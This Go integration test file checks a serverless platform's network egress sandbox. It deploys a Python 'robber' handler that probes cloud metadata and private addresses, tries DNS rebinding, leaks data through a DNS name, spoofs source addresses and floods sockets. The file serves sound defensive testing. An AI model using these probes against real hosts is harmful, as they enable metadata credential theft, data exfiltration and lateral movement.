package integration

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/pipsqueak-faas/pipsqueak/core/coretest"
	"github.com/pipsqueak-faas/pipsqueak/core/egress/egresstest"
)

// Who attacks from an instance that has a network: a handler of the network's user.

// robber says what an address answers over TCP or UDP, if it does; sends as another address; looks names up;
// or serves.
const robber = `
import socket, threading

def speak(kind, host, port, source=None):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        if source:
            s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
            s.bind((source, 0))
        s.connect((host, port))
        s.sendall(b"stolen goods\n")
        return s.recv(100).decode()

def serve():
    server = socket.create_server(("", 7000))
    def answer():
        while True:
            conn, _ = server.accept()
            conn.sendall(b"come in\n")
            conn.close()
    threading.Thread(target=answer, daemon=True).start()

def own(host):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((host, 53))
        return s.getsockname()[0]

def handler(event, context):
    done = []
    for step in event:
        try:
            if step[0] == "serve":
                serve()
            elif step[0] == "own":
                done.append(own(step[1]))
            elif step[0] == "name":
                done.append(socket.gethostbyname(step[1]))
            else:
                done.append(step[1] + ": " + speak(*step).strip())
        except OSError:
            pass
    return done
`

// robs has a function of those settings do steps, in a world of the attack's own, and returns what they got
// done.
func (c connected) robs(t *testing.T, name, settings string, steps ...[]any) []string {
	t.Helper()
	c.deploy(t, name, handlerFile(robber).with("pipsqueak.yaml", settings+"\n"))
	event, err := json.Marshal(steps)
	coretest.Must(t, err)
	return result[[]string](t, c.worker, name, string(event))
}

// world is a worker of the build with a network for functions, and servers at all places.
func (a *arena) world(t *testing.T) connected {
	t.Helper()
	c := startConnected(t, a.programs, t.TempDir(), "--network", "egress")
	c.world.Serve(t, c.world.Internet, 7000)
	c.world.Serve(t, c.world.Machine, 7000)
	return c
}

// each returns a step for each address, by TCP and UDP.
func each(addresses []string) (steps [][]any) {
	for _, address := range addresses {
		for _, kind := range []string{"tcp", "udp"} {
			steps = append(steps, []any{kind, address, 7000})
		}
	}
	return steps
}

// socketFlood makes sockets of IPv4 for two seconds, from four threads, and says how many.
const socketFlood = `
import socket, threading, time

def handler(event, context):
    made = [0] * 4
    end = time.monotonic() + 2
    def make(i):
        while time.monotonic() < end:
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
                made[i] += 1
            except OSError:
                pass
    threads = [threading.Thread(target=make, args=(i,)) for i in range(4)]
    for thread in threads: thread.start()
    for thread in threads: thread.join()
    return sum(made)
`

// egressAttacks are those by the network that a function has.
var egressAttacks = []outsider{
	{attack{name: "connect to a private address, or a cloud's metadata", walls: "closed addresses"}, "handler", func(t *testing.T, a *arena) string {
		return strings.Join(a.world(t).robs(t, "robber", "", each(egresstest.Forbidden)...), ", ")
	}},
	{attack{name: "connect to a private address by a name of one's own", walls: "closed addresses + judged names"}, "handler", func(t *testing.T, a *arena) string {
		c := a.world(t)
		c.world.Name("rebound.example", egresstest.Name{Addresses: []string{"169.254.169.254"}})
		return strings.Join(c.robs(t, "robber", "egress: ['rebound.example:7000']", []any{"tcp", "rebound.example", 7000}), ", ")
	}},
	{attack{name: "learn a private address by its name", walls: "judged names"}, "handler", func(t *testing.T, a *arena) string {
		c := a.world(t)
		c.world.Name("database.internal", egresstest.Name{Addresses: []string{"10.1.2.3"}})
		return strings.Join(c.robs(t, "robber", "", []any{"name", "database.internal"}), ", ")
	}},
	{attack{name: "connect to the worker's machine", walls: "machine + machine's own"}, "handler", func(t *testing.T, a *arena) string {
		return strings.Join(a.world(t).robs(t, "robber", "", each(egresstest.Machine)...), ", ")
	}},
	{attack{name: "connect to another instance", walls: "instances apart"}, "handler", func(t *testing.T, a *arena) string {
		c := a.world(t)
		other := c.robs(t, "victim", "", []any{"serve"}, []any{"own", egresstest.Public[0]})
		return strings.Join(c.robs(t, "robber", "", []any{"tcp", other[0], 7000}), ", ")
	}},
	{attack{name: "send under another instance's address", walls: "sources"}, "handler", func(t *testing.T, a *arena) string {
		c := a.world(t)
		other := c.robs(t, "victim", "", []any{"own", egresstest.Public[2]})
		c.robs(t, "robber", "", []any{"udp", egresstest.Public[2], 7000, other[0]})
		return strings.Join(c.world.Heard(), ", ")
	}},
	{attack{name: "connect to what the function does not list", walls: "listed addresses"}, "handler", func(t *testing.T, a *arena) string {
		return strings.Join(a.world(t).robs(t, "robber", "egress: ['93.184.216.34:7001', '93.184.216.99:7000']", each(egresstest.Public)...), ", ")
	}},
	{attack{name: "send something in a name that the function does not list", walls: "listed names"}, "handler", func(t *testing.T, a *arena) string {
		c := a.world(t)
		c.robs(t, "robber", "egress: ['93.184.216.34:7001']", []any{"name", "stolen-goods.tunnel.example"})
		return strings.Join(slices.DeleteFunc(c.world.Asked(), func(name string) bool { return !strings.Contains(name, "stolen") }), ", ")
	}},
	{attack{name: "keep the worker busy with sockets", walls: "paced sockets"}, "handler", func(t *testing.T, a *arena) string {
		c := a.world(t)
		c.deploy(t, "floods", handlerFile(socketFlood))
		before := spentBy(t, c.cmd.Process.Pid)
		if made := result[int](t, c.worker, "floods", "{}"); made > 8000 {
			return fmt.Sprintf("%d sockets in two seconds took the worker %v", made, spentBy(t, c.cmd.Process.Pid)-before)
		}
		return ""
	}},
	{attack{name: "use a network that the function does not have", walls: "wanted networks"}, "handler", func(t *testing.T, a *arena) string {
		return strings.Join(a.world(t).robs(t, "robber", "network: none", each(egresstest.Public)...), ", ")
	}},
}
